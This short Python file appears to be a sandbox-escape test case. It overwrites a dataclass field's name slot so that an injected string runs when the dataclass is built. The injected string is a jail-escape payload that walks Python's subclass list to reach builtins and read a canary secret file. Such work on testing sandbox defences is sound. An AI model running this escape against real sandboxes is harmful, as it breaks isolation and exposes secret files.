# z05_field_slot_set [escape]: dataclasses.Field.name is a slot, whose __set__ writes any name into a field
import dataclasses

TEXT = "x=[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'catch_warnings'][0]()._module.__builtins__['open']('@CANARY@/secret.txt').read()"


@dataclasses.dataclass
class A:
    x: int = 0


def solver(a, b):
    f = dataclasses.fields(A)[0]
    dataclasses.Field.name.__set__(f, TEXT)

    @dataclasses.dataclass(repr=False, eq=False)
    class B(A):
        y: int = 1

    return str(B())
